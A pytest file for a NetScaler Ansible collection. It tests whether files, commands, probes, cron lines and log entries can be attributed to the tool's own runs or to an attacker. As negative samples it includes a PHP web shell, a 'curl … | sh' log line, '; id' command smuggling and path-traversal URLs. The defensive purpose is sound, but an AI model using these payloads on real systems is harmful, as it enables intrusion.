# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""What is ours is known by more than its name: an attacker can choose the name of a file, a User-Agent and an account."""

from __future__ import annotations

import hashlib
import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.appliance.objects.steps import Step
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.catalogue.record_trust import RecordTrust
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.change.records.change_record import ChangeRecord
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.change.records.lock_content import Lock
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.change.records.new_record import start_record
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.change.records.record_copies import Copy, file_name
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.change.records.record_states import (
    CopyState,
    Outcome,
)
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.change.records.sent_probes import (
    SentProbes,
    keep_probes,
    noted_probes,
    request_key,
)
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings import lost_clients
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings.known_runs import read_ourselves
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings.lost_clients import LostClients
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings.ourselves import Ourselves
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings.own_runs import (
    OwnLine,
    OwnScript,
    OwnTest,
)
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings.whose import (
    Doubt,
    SeenRequest,
    Whose,
)

STEP = Step("responderpolicy", ("tq_demo",), None, {"name": "tq_demo", "rule": "true", "action": "NOOP"})
FACTS = {
    "measure": "demo",
    "version": 2,
    "kind": "apply",
    "run": "abc",
    "ticket": "CHG1",
    "build": "NS13.0: Build 47.22.nc",
}


@pytest.fixture
def record(tmp_path: Path) -> ChangeRecord:
    made = start_record(tmp_path, "gw-a", (STEP,), FACTS)
    made.finish(Outcome.APPLIED)
    return made


@pytest.fixture
def ours(tmp_path: Path, record: ChangeRecord) -> Ourselves:
    return read_ourselves(tmp_path, "gw-a", RecordTrust(), ["tq"], ["192.0.2.1"])


def probe(agent: str, source: str, time: datetime | None, url: str = "/x") -> SeenRequest:
    return SeenRequest(agent, "", url, source, time)


def lock(run: str, **changes: str) -> bytes:
    words = dict.fromkeys(("owner", "holder", "measure", "reason", "ticket", "token"), "x")
    return Lock(**{**words, **changes}, run=run, taken=None, expires=None).to_bytes()


def test_lock_and_copy_of_a_run_are_ours(ours: Ourselves, record: ChangeRecord) -> None:
    assert ours.file("/var/tmp/tourniquet_lock_3.txt", lock("abc")).is_ours
    name = file_name(record.name, CopyState.ENDED)
    assert ours.file(f"/var/tmp/{name}", Copy.of(record).to_bytes()).is_ours


@pytest.mark.parametrize(
    ("directory", "name", "content"),
    [
        ("/var/tmp", "tourniquet_lock.txt", None),
        ("/var/tmp", "tourniquet_lock.txt", b"<?php eval($_POST[1]);"),
        ("/var/tmp", "tourniquet_lock.txt", lock("another")),
        ("/var/tmp", "tourniquet_lock.txt", lock("abc") + b"\n#!/bin/sh\n"),
        ("/var/tmp", "tourniquet_lock.php", lock("abc")),
        ("/var/vpn/theme", "tourniquet_lock.txt", lock("abc")),
        ("/var/tmp", "tourniquet_20200115T020000.000000Z-abc_ended.txt", b"<?php eval($_POST[1]);"),
    ],
)
def test_a_name_alone_proves_nothing(ours: Ourselves, directory: str, name: str, content: bytes | None) -> None:
    assert not ours.file(f"{directory}/{name}", content).is_ours


def test_a_copy_that_was_changed_is_not_ours(ours: Ourselves, record: ChangeRecord) -> None:
    value = json.loads(Copy.of(record).to_bytes())
    value["record"]["reason"] = "other words"
    assert not ours.file(f"/var/tmp/{file_name(record.name, CopyState.ENDED)}", json.dumps(value).encode()).is_ours


def test_a_command_and_a_probe_are_ours_only_where_all_fits(ours: Ourselves) -> None:
    now = datetime.now(UTC)
    assert ours.command("tq", "192.0.2.1", now).is_ours
    assert not ours.command("nsroot", "192.0.2.1", now).is_ours
    assert not ours.command("tq", "127.0.0.1", now).is_ours
    assert not ours.command("tq", "192.0.2.1", now + timedelta(hours=2)).is_ours
    assert not ours.command("tq", "192.0.2.1", None).is_ours
    assert ours.request(probe("tourniquet-probe/abc", "192.0.2.1", now)).is_ours
    assert not ours.request(probe("tourniquet-probe/abc", "198.51.100.7", now)).is_ours
    assert not ours.request(probe("tourniquet-probe/abcd", "192.0.2.1", now)).is_ours
    assert not ours.request(probe("x tourniquet-probe/abc", "192.0.2.1", now)).is_ours
    assert not ours.request(probe("tourniquet-probe/abc", "192.0.2.1", now - timedelta(hours=2))).is_ours
    for lost in ("", "127.0.0.1", "::1"):
        assert not ours.request(probe("tourniquet-probe/abc", lost, now)).is_ours
        assert ours.request(probe("tourniquet-probe/abc", lost, now)).lost
        assert ours.request(probe("tourniquet-probe/abcd", lost, now)).lost is None
        assert ours.request(probe("tourniquet-probe/abc", lost, now + timedelta(hours=2))).lost is None
        assert ours.request(probe("tourniquet-probe/abc", lost, None)).lost is None
    assert ours.request(probe("tourniquet-probe/abc", "198.51.100.7", now)).lost is None
    assert ours.message("/x", "192.0.2.1", now, is_attack=True).is_ours
    assert not ours.message("/x", "198.51.100.7", now, is_attack=True).is_ours
    assert not ours.message("/x", "192.0.2.1", now + timedelta(hours=2), is_attack=True).is_ours
    assert not ours.message("/x", "192.0.2.1", None, is_attack=True).is_ours


def test_probes_of_a_run_without_a_record_are_ours_only_where_all_fits(tmp_path: Path) -> None:
    with noted_probes(tmp_path, "gw-a", "abd"):
        pass
    ours = read_ourselves(tmp_path, "gw-a", RecordTrust(), ["tq"], ["192.0.2.1"])
    now = datetime.now(UTC)
    assert ours.request(probe("tourniquet-probe/abd", "192.0.2.1", now)).is_ours
    assert not ours.request(probe("tourniquet-probe/abe", "192.0.2.1", now)).is_ours
    assert not ours.request(probe("tourniquet-probe/abd", "198.51.100.7", now)).is_ours
    for off in (-6, 6):
        assert not ours.request(probe("tourniquet-probe/abd", "192.0.2.1", now + timedelta(minutes=off))).is_ours
    assert ours.values()["user_agents"] == ["tourniquet-probe/abd"]
    assert read_ourselves(tmp_path, "gw-b", RecordTrust(), ["tq"], ["192.0.2.1"]).probes == ()
    assert not ours.command("tq", "192.0.2.1", now).is_ours, "a run that only probes gives no command"
    assert not ours.file("/var/tmp/tourniquet_lock.txt", lock("abd")).is_ours


def test_probes_of_another_control_node_are_ours_from_an_address_that_a_person_named(tmp_path: Path) -> None:
    now, run = datetime.now(UTC), "0123456789"
    keep_probes(tmp_path, "utrecht", "gw-a", [SentProbes(run, now - timedelta(minutes=1), now)])

    def ours(named: str) -> Ourselves:
        return read_ourselves(tmp_path, "gw-a", RecordTrust(), ["tq"], ["192.0.2.1"], [named])

    agent = f"tourniquet-probe/{run}"
    nobody_named = read_ourselves(tmp_path, "gw-a", RecordTrust(), ["tq"], ["192.0.2.1"])
    assert nobody_named.not_recognised is not None
    assert not nobody_named.request(probe(agent, "192.0.2.1", now)).is_ours
    known = ours("192.0.2.2")
    assert known.not_recognised is None
    assert known.request(probe(agent, "192.0.2.2", now)).is_ours
    assert known.message("/x", "192.0.2.2", now, is_attack=True).is_ours
    # Whatever the other one says: not from elsewhere, not from our own address, not as another run, not at another time, and no command.
    for source in ("198.51.100.7", "192.0.2.1"):
        assert not known.request(probe(agent, source, now)).is_ours
        assert not known.message("/x", source, now, is_attack=True).is_ours
        assert known.request(probe(agent, source, now + timedelta(hours=3))).off is None
    assert not known.request(probe("tourniquet-probe/abcdef0123", "192.0.2.2", now)).is_ours
    assert not known.request(probe(agent, "192.0.2.2", now + timedelta(hours=2))).is_ours
    assert not known.command("tq", "192.0.2.2", now).is_ours
    assert not ours("192.0.2.3").request(probe(agent, "192.0.2.2", now)).is_ours
    assert known.values()["user_agents"] == [agent]


def test_a_run_that_sent_probes_alone_explains_no_command_and_no_lock(tmp_path: Path) -> None:
    """It wrote nothing: what somebody else does with the account at that time is not ours."""
    with noted_probes(tmp_path, "gw-a", "abc"):
        pass
    ours = read_ourselves(tmp_path, "gw-a", RecordTrust(), ["tq"], ["192.0.2.1"])
    assert ours.request(probe("tourniquet-probe/abc", "192.0.2.1", datetime.now(UTC))).is_ours
    assert not ours.command("tq", "192.0.2.1", datetime.now(UTC)).is_ours
    assert not ours.file("/var/tmp/tourniquet_lock.txt", lock("abc")).is_ours


@pytest.mark.parametrize(
    ("agent", "source", "hours", "off"),
    [
        ("tourniquet-probe/abc", "192.0.2.1", 0, None),
        ("tourniquet-probe/abc", "192.0.2.1", -2, timedelta(hours=-2)),
        ("tourniquet-probe/abc", "192.0.2.1", 30, timedelta(hours=30)),
        ("tourniquet-probe/abc", "198.51.100.7", 30, None),
        ("tourniquet-probe/abcd", "192.0.2.1", 30, None),
        ("curl/7", "192.0.2.1", 30, None),
    ],
)
def test_how_far_a_probe_is_from_the_run_that_it_names(
    ours: Ourselves, agent: str, source: str, hours: int, off: timedelta | None
) -> None:
    began = ours.runs[0].began
    assert ours.request(probe(agent, source, began + timedelta(hours=hours))).off == off
    assert ours.request(probe(agent, source, None)).off is None


def test_the_list_for_other_scanners_names_what_we_left(ours: Ourselves) -> None:
    values = json.loads(json.dumps(ours.values()))
    assert values["user_agents"] == ["tourniquet-probe/abc"]
    assert values["accounts"] == ["tq"]
    assert values["addresses"] == ["192.0.2.1"]
    assert [run["run"] for run in values["runs"]] == ["abc"]
    assert (values["url_tags"], values["log_tags"]) == ([], [])
    tests = (OwnTest("abc", AT, "192.0.2.7", TAG), OwnTest("def", AT, "192.0.2.7", f"{TAG}0"))
    values = replace(ours, tests=tests, script=SCRIPT).values()
    assert values["user_agents"] == ["tourniquet-probe/abc", "tourniquet-probe/def"]
    assert values["url_tags"] == [TAG, f"{TAG}0"]
    assert values["log_tags"] == ["fileswatch", "tourniquet_on_box"]


def test_a_record_of_nobody_we_know_explains_nothing(tmp_path: Path, record: ChangeRecord) -> None:
    value = json.loads(record.path.read_text())
    value["reason"] = "changed"
    record.path.write_text(json.dumps(value))
    assert read_ourselves(tmp_path, "gw-a", RecordTrust()).runs == ()


AT = datetime(2026, 11, 28, 6, 0, tzinfo=UTC)
TAG = "tq-alarm-0123456789abcdef"


@pytest.mark.parametrize(
    ("url", "source", "minutes", "is_ours"),
    [
        (f"/vpn/../vpns/?{TAG}-0-", "192.0.2.7", 0, True),
        (f"/{TAG}/x", "192.0.2.1", -9, True),  # the address by which the appliance knows this control node
        ("/vpn/../vpns/?tq-alarm-0", "192.0.2.7", 0, False),
        (f"/{TAG}/x", "203.0.113.9", 0, False),
        (f"/{TAG}/x", "192.0.2.7", 6, False),
        (f"/{TAG}/x", "192.0.2.7", -16, False),
        (f"/{TAG}/x", "192.0.2.7", None, False),
    ],
)
def test_a_test_of_the_alarm_is_ours_by_tag_address_and_time(
    url: str, source: str, minutes: int | None, is_ours: bool
) -> None:
    ours = Ourselves("gw-a", sources=frozenset(["192.0.2.1"]), tests=(OwnTest("run", AT, "192.0.2.7", TAG),))
    time = None if minutes is None else AT + timedelta(minutes=minutes)
    assert ours.request(SeenRequest("", "GET", url, source, time)).is_ours is is_ours


SCRIPT = OwnScript(
    "/nsconfig/tourniquet_on_box.sh",
    frozenset({hashlib.sha256(b"ours").hexdigest()}),
    "/var/cron/tabs/root",
    "*/5 * * * * /bin/sh /nsconfig/tourniquet_on_box.sh > /dev/null 2>&1",
    frozenset(["tourniquet_on_box", "fileswatch"]),
)


def test_the_script_of_a_run_is_ours_by_its_content(ours: Ourselves) -> None:
    known = replace(ours, script=SCRIPT)
    assert known.file("/nsconfig/tourniquet_on_box.sh", b"ours").is_ours
    assert not known.file("/nsconfig/tourniquet_on_box.sh", b"theirs").is_ours
    assert not known.file("/nsconfig/tourniquet_on_box.sh", None).is_ours
    assert not known.file("/var/tmp/tourniquet_on_box.sh", b"ours").is_ours
    assert not ours.file("/nsconfig/tourniquet_on_box.sh", b"ours").is_ours
    assert known.crontab_line(SCRIPT.crontab, SCRIPT.line.encode() + b"\n").is_ours
    assert not known.crontab_line("/etc/crontab", SCRIPT.line.encode()).is_ours
    assert not known.crontab_line(SCRIPT.crontab, SCRIPT.line.encode() + b"; id").is_ours
    assert not ours.crontab_line(SCRIPT.crontab, SCRIPT.line.encode()).is_ours
    assert SCRIPT.path in known.values()["files"]
    assert known.values()["cron"] == [f"{SCRIPT.crontab}: {SCRIPT.line}"]
    assert ours.values()["cron"] == []


@pytest.mark.parametrize(
    ("line", "is_ours"),
    [
        ("Sep 20 01:02:03 <user.warn> ns tourniquet_on_box: new /netscaler/portal/templates/x.xml", True),
        ("Sep  2 01:02:03 ns tourniquet_on_box[12]: checked 1210 files: 1 new, 0 changed, 0 gone", True),
        ("Sep 20 01:02:03 <user.warn> ns fileswatch: new /netscaler/portal/templates/x.xml", True),
        ("Sep 20 01:02:03 <user.warn> ns fileswatcher: new /netscaler/portal/templates/x.xml", False),
        ("Sep 20 01:02:03 <user.warn> ns sh: tourniquet_on_box: new /netscaler/portal/templates/x.xml", False),
        ("Sep 20 01:02:03 <user.warn> ns tourniquet_on_box: curl http://192.0.2.1/x | sh", False),
        ("tourniquet_on_box: new /x", False),
    ],
)
def test_a_report_is_ours_by_one_of_its_tags_and_its_form(ours: Ourselves, line: str, is_ours: bool) -> None:
    assert replace(ours, script=SCRIPT).report(line.encode()).is_ours is is_ours
    assert not ours.report(line.encode()).is_ours


def test_commands_over_ssh_are_ours_only_where_all_fits_and_never_by_the_word_of_another_node(tmp_path: Path) -> None:
    now, run = datetime.now(UTC), "0123456789"
    with noted_probes(tmp_path, "gw-a", run, "hunter"):
        pass
    keep_probes(tmp_path, "utrecht", "gw-a", [SentProbes("1123456789", now, now, shell="intruder")])
    ours = read_ourselves(tmp_path, "gw-a", RecordTrust(), ["tq"], ["192.0.2.1"], ["192.0.2.2"])
    assert ours.command("hunter", "192.0.2.1", now).is_ours
    assert ours.log_on("hunter", "192.0.2.1", now).is_ours
    assert ours.log_on("tq", "192.0.2.1", now).is_unknown, "no run has noted this time"
    for user, source, time in (
        ("hunter", "198.51.100.7", now),
        ("nsroot", "192.0.2.1", now),
        ("hunter", "192.0.2.1", now + timedelta(hours=2)),
        ("hunter", "192.0.2.1", None),
        ("intruder", "192.0.2.2", now),
        ("tq", "192.0.2.1", now),
    ):
        assert not ours.command(user, source, time).is_ours, user
    assert not ours.log_on("intruder", "192.0.2.2", now).is_ours
    assert not ours.log_on("tq", "198.51.100.7", now).is_ours
    assert not ours.request(probe(f"tourniquet-probe/{run}", "192.0.2.1", now)).is_ours, "a run over SSH sends no probe"


def test_a_request_without_a_client_is_ours_as_often_as_it_was_sent(tmp_path: Path) -> None:
    now, agent = datetime.now(UTC), "tourniquet-probe/0123456789"
    with noted_probes(tmp_path, "gw-a", "0123456789") as note:
        note.sent = {request_key("GET", "/vpns/"): 2}
    ours, lost = read_ourselves(tmp_path, "gw-a", RecordTrust(), [], ["192.0.2.1"]), LostClients()

    def takes(method: str, url: str, source: str = "", log: str = "n httpaccess.log") -> bool:
        return lost.takes(ours.request(SeenRequest(agent, method, url, source, now)), log)

    assert [takes("GET", "/vpns/") for _ in range(3)] == [True, True, False]
    assert takes("GET", "/vpns/", log="n other.log"), "each log counts by itself"
    assert not takes("POST", "/vpns/", log="x")
    assert not takes("GET", "/vpns/x", log="x")
    assert not takes("GET", "/vpns/", "198.51.100.7", log="x")
    lost.forget("n httpaccess.log")
    assert takes("GET", "/vpns/"), "a log that is read whole again is counted anew"


def test_what_is_remembered_of_lines_without_a_client_is_bounded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(lost_clients, "MOST", 2)
    with noted_probes(tmp_path, "gw-a", "0123456789") as note:
        note.sent = {request_key("GET", "/"): 1}
    ours, lost = read_ourselves(tmp_path, "gw-a", RecordTrust(), [], ["192.0.2.1"]), LostClients()
    for number in range(4):
        seen = SeenRequest("tourniquet-probe/0123456789", "GET", "/", "", datetime.now(UTC))
        assert lost.takes(ours.request(seen), f"n{number}")
    assert len(lost.seen) == 2


def test_each_answer_says_by_which_run_record_and_control_node(ours: Ourselves, record: ChangeRecord) -> None:
    now = datetime.now(UTC)
    found = ours.command("tq", "192.0.2.1", now)
    assert (found.whose, found.run, found.record, found.control_node) == (Whose.OURS, "abc", record.name, "")
    assert ours.request(probe("tourniquet-probe/abc", "192.0.2.1", now)).record == record.name
    copied = ours.file(f"/var/tmp/{file_name(record.name, CopyState.ENDED)}", Copy.of(record).to_bytes())
    assert (copied.run, copied.record) == ("abc", record.name)


def test_what_has_our_form_alone_cannot_be_told(tmp_path: Path, ours: Ourselves) -> None:
    now = datetime.now(UTC)
    keep_probes(tmp_path, "utrecht", "gw-a", [SentProbes("1123456789", now, now, shell="hunter")])
    known = read_ourselves(tmp_path, "gw-a", RecordTrust(), ["tq"], ["192.0.2.1"], ["192.0.2.2"])
    theirs = known.command("hunter", "192.0.2.2", now)
    assert (theirs.whose, theirs.control_node, theirs.doubt) == (Whose.UNKNOWN, "utrecht", Doubt.UNKNOWN_ORIGIN)
    assert "the control node utrecht has noted commands of this account then" in theirs.why
    stolen = known.command("tq", "198.51.100.7", now)
    assert (stolen.whose, stolen.control_node) == (Whose.UNKNOWN, "")
    assert stolen.why.startswith(
        "another control node (utrecht) may have done it: its notes, or its address, are not here"
    )
    assert known.command("intruder", "198.51.100.7", now).whose is Whose.NOT_OURS
    web_shell = ours.file("/var/tmp/tourniquet_lock.txt", b"<?php eval($_POST[1]);")
    assert (web_shell.whose, ours.file("/var/tmp/x.php", b"").whose) == (Whose.UNKNOWN, Whose.NOT_OURS)


def test_a_process_with_the_path_of_our_script_is_never_ours(ours: Ourselves) -> None:
    line = b"root 9 0.0 /bin/sh " + SCRIPT.path.encode()
    found = replace(ours, script=SCRIPT).process(line)
    assert (found.whose, "anybody can name a process so" in found.why) == (Whose.UNKNOWN, True)
    assert ours.process(line).whose is Whose.NOT_OURS


def test_a_line_of_a_start_up_file_is_ours_in_its_file_alone(ours: Ourselves) -> None:
    known = replace(ours, lines=(OwnLine("/nsconfig/rc.netscaler", "nsapimgr_wr.sh -ys x=0"),))
    assert known.crontab_line("/nsconfig/rc.netscaler", b"nsapimgr_wr.sh -ys x=0\n").is_ours
    assert not known.crontab_line("/nsconfig/rc.netscaler", b"nsapimgr_wr.sh -ys x=0; id").is_ours
    assert not known.crontab_line("/nsconfig/nsafter.sh", b"nsapimgr_wr.sh -ys x=0").is_ours
    assert not ours.crontab_line("/nsconfig/rc.netscaler", b"nsapimgr_wr.sh -ys x=0").is_ours


def test_a_read_of_ours_that_a_rule_matched_is_no_attack_and_one_of_somebody_is(ours: Ourselves) -> None:
    url, later = "/nitro/v1/config/systemfile?args=filelocation:%2Fx%2Fvpns", datetime.now(UTC) + timedelta(days=1)
    assert ours.message(url, "192.0.2.1", later, is_attack=True).whose is Whose.UNKNOWN
    assert ours.message(url, "198.51.100.7", later, is_attack=True).whose is Whose.NOT_OURS
    for other in ("/vpn/../vpns/cfg/smb.conf", "/nitro/../vpns/cfg/smb.conf", "/nitro/%2e%2e/vpns/"):
        assert ours.message(other, "192.0.2.1", later, is_attack=True).whose is Whose.NOT_OURS
